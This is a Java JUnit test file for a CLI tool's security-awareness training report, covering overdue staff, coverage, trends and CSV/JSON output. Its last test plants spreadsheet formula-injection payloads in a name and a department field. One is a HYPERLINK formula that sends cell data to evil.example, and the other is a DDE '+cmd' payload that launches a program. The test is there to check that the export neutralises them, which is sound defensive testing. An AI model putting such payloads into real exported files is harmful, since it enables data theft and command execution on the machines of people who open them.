package io.zonewarden.app.cli;

import static io.zonewarden.app.cli.ValidateCommandTest.EXAMPLE;
import static io.zonewarden.app.cli.ValidateCommandTest.zonewarden;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.StringReader;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import org.apache.commons.csv.CSVFormat;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** {@code zonewarden awareness}: who is due, coverage, trend and campaigns, as text, JSON and CSV. */
class AwarenessCommandTest {

    @Test
    void givenExamplePlant_whenCsv_thenOneRowPerOverdueOrDuePersonAndModuleMostOverdueFirst() {
        var run = zonewarden("awareness", EXAMPLE, "--as-of", "2026-11-26", "--format", "csv");

        assertThat(run.exitCode()).isEqualTo(ZoneWarden.OK);
        var lines = run.out().lines().toList();
        assertThat(lines.get(0))
                .isEqualTo("person,name,email,department,discipline,module,title,status,due,lastCompleted,daysOverdue");
        assertThat(lines.subList(1, lines.size()))
                .extracting(l -> l.split(",")[0] + " " + l.split(",")[5] + " " + l.split(",")[7])
                .containsExactly(
                        "h.tanaka ot-basics overdue",
                        "h.tanaka phishing overdue",
                        "e.larsen ot-basics overdue",
                        "l.haddad ot-basics overdue",
                        "j.okafor ot-basics overdue",
                        "j.okafor phishing overdue",
                        "c.dubois ot-basics due",
                        "c.dubois phishing due");
        assertThat(lines.get(4)).endsWith(",overdue,2026-10-20,2026-04-20,37");
    }

    @Test
    void givenShorterLookAhead_whenCsv_thenNobodyDueSoon() {
        var run = zonewarden("awareness", EXAMPLE, "--as-of", "2026-11-26", "--format", "csv", "--due-within", "2w");

        // c.dubois falls due on 2026-12-15, 19 days on: outside two weeks; the six overdue rows stay
        assertThat(run.out().lines().skip(1)).hasSize(6).noneMatch(l -> l.contains(",due,2026-12-15,"));
    }

    @Test
    void givenExamplePlant_whenJson_thenCoverageTrendAndCampaigns() {
        var run = zonewarden("awareness", EXAMPLE, "--as-of", "2026-11-26", "--format", "json");

        var json = run.json();
        assertThat(json.path("overdue").asInt()).isEqualTo(6);
        assertThat(json.path("dueSoon").asInt()).isEqualTo(2);
        assertThat(json.path("coverage").path("overall").path("required").asInt())
                .isEqualTo(27);
        assertThat(json.path("coverage").path("overall").path("current").asInt())
                .isEqualTo(21);
        assertThat(json.path("trend")).hasSize(12);
        assertThat(json.path("trend").path(11).path("date").asString()).isEqualTo("2026-11-26");
        var campaigns = new ArrayList<String>();
        json.path("campaigns")
                .forEach(c -> campaigns.add(c.path("campaign").asString() + "/"
                        + c.path("module").asString() + " " + c.path("percent").asInt()));
        // the spring refresher was for engineering and remote-access roles only; the leaver p.nowak missed it
        assertThat(campaigns)
                .containsExactly(
                        "autumn-2025/ot-basics 83",
                        "autumn-2025/phishing 83",
                        "spring-2026/ot-basics 75",
                        "spring-2026/engineering-hygiene 75");
    }

    @Test
    void givenExamplePlant_whenText_thenSectionsForPeople() {
        var run = zonewarden("awareness", EXAMPLE, "--as-of", "2026-11-26");

        assertThat(run.out())
                .contains("overdue (6)")
                .contains("due soon (2)")
                .contains("coverage: 77% current (21 of 27)")
                .contains("(37 days overdue)")
                .contains("trend (coverage on the same day of each month)");
    }

    @Test
    void givenFailOnOverdue_whenSomeoneIsOverdue_thenExitOneAndNotBeforeAnyoneWas() {
        assertThat(zonewarden("awareness", EXAMPLE, "--as-of", "2026-11-26", "--fail-on-overdue")
                        .exitCode())
                .isEqualTo(ZoneWarden.FINDINGS);
        // before the modules were introduced nobody can be overdue
        assertThat(zonewarden("awareness", EXAMPLE, "--as-of", "2024-12-01", "--fail-on-overdue")
                        .exitCode())
                .isEqualTo(ZoneWarden.OK);
    }

    @Test
    void givenBadLookAhead_whenRun_thenUsageErrorExitTwo() {
        var run = zonewarden("awareness", EXAMPLE, "--due-within", "soon");

        assertThat(run.exitCode()).isEqualTo(ZoneWarden.BAD_INPUT);
        assertThat(run.err()).contains("expected a number of days such as 30d or 6w");
    }

    @Test
    void givenFormulasInNamesAndDepartments_whenCsv_thenCellsAreTextNotFormulas(@TempDir Path dir) throws Exception {
        // a plant's people come from model files and imports that others write: what they hold must not run in the
        // spreadsheet of whoever opens the mail-merge export
        var yaml = Files.readString(Path.of(EXAMPLE))
                .replace(
                        "{id: h.tanaka, name: Hiro Tanaka, department: Maintenance,",
                        "{id: h.tanaka, name: '=HYPERLINK(\"http://evil.example/?\"&A1,\"Hiro\")',"
                                + " department: \"+cmd|' /C calc'!A0\",");
        var plant = dir.resolve("plant.yaml");
        Files.writeString(plant, yaml);

        var run = zonewarden("awareness", plant.toString(), "--as-of", "2026-11-26", "--format", "csv");

        assertThat(run.exitCode()).isEqualTo(ZoneWarden.OK);
        var rows = CSVFormat.RFC4180.parse(new StringReader(run.out())).getRecords();
        var tanaka = rows.stream().filter(r -> r.get(0).equals("h.tanaka")).toList();
        assertThat(tanaka).hasSize(2).allSatisfy(r -> {
            assertThat(r.get(1)).isEqualTo("'=HYPERLINK(\"http://evil.example/?\"&A1,\"Hiro\")");
            assertThat(r.get(3)).isEqualTo("'+cmd|' /C calc'!A0");
        });
        assertThat(run.out()).doesNotContain(",=HYPERLINK", ",+cmd");
    }
}
